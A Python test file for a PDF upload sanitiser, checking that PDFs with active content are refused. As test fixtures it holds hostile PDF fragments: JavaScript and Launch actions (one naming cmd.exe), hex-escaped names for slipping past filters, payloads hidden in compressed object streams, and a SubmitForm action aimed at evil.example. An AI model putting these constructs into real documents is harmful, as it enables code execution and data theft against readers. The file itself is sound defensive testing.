import zlib
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shuoshi.files.rules.cleaning import cleaned
from shuoshi.files.rules.kinds import FileRefused
from shuoshi.files.rules.paper import MOST_UNPACKED, check_pdf
from tests.files import samples


def pdf(*objects):
    body = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (number, one)
        for number, one in enumerate(objects, start=1)
    )
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def stream(about, content):
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (about, len(content), content)


def objects(content, about=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"):
    return stream(about, zlib.compress(content))


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>"),
        pdf(b"<</S /J#61vaScript>>"),
        pdf(b"<</AA <</O <</S /Launch /F (cmd.exe)>>>>>>"),
        pdf(b"<</Names <</EmbeddedFiles 3 0 R>>>>"),
        pdf(b"<</Type /EmbeddedFile>>"),
        pdf(b"<</Subtype /RichMedia>>"),
        pdf(b"<</S /SubmitForm /F (http://evil.example)>>"),
        pdf(objects(b"1 0 <</S /JavaScript>>")),
        pdf(objects(b"1 0 <</S /L#61unch>>")),
        pdf(objects(b"1 0 <</S /Launch>>", b"/Type /Obj#53tm /Filter /FlateDecode")),
        pdf(stream(b"/Type /ObjStm", b"1 0 <</S /Launch>>")),
    ],
)
def test_a_pdf_that_acts_is_refused(content):
    with pytest.raises(FileRefused, match="打印为 PDF"):
        cleaned(content)


def test_a_pdf_with_a_password_is_refused():
    with pytest.raises(FileRefused, match="加了密码"):
        check_pdf(samples.PDF.replace(b"<<>>", b"<</Encrypt 5 0 R>>"))


def test_a_plain_pdf_is_taken():
    words = stream(b"/Filter /FlateDecode", zlib.compress(b"BT (hello) Tj ET"))
    link = b"<</S /URI /URI (http://example.org) /JSX 1 /Launcher 2>>"

    check_pdf(pdf(b"<</OpenAction [2 0 R /Fit]>>", words, link, objects(b"1 0 <<>>")))


def test_a_pdf_that_unpacks_without_end_is_refused():
    with pytest.raises(FileRefused, match="大得不正常"):
        check_pdf(pdf(objects(b"\0" * (MOST_UNPACKED + 1))))


def test_a_pdf_that_packs_in_an_unknown_way_is_refused():
    with pytest.raises(FileRefused, match="读不懂"):
        check_pdf(pdf(stream(b"/Type /ObjStm /Filter /LZWDecode", b"\x80\x0b\x60")))


@given(st.binary(max_size=300))
def test_no_bytes_break_it(content):
    with suppress(FileRefused):
        check_pdf(b"%PDF-" + content)
